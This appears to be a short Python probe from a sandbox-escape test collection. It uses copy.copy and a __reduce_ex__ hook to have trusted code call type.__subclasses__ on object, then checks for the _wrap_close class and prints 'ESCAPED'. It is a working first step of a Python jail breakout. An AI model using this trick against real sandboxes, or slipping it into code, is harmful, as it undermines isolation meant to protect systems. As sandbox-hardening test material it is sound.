# technique: type.__subclasses__ called by trusted code
# goal: subclasses
# source: own analysis: attacker's C callables below a trusted frame
import copy


class Carrier:
    def __reduce_ex__(self, version):
        return type.__subclasses__, (object,)


kinds = copy.copy(Carrier())
if any(kind.__name__ == '_wrap_close' for kind in kinds):
    print('ESCAPED', len(kinds))
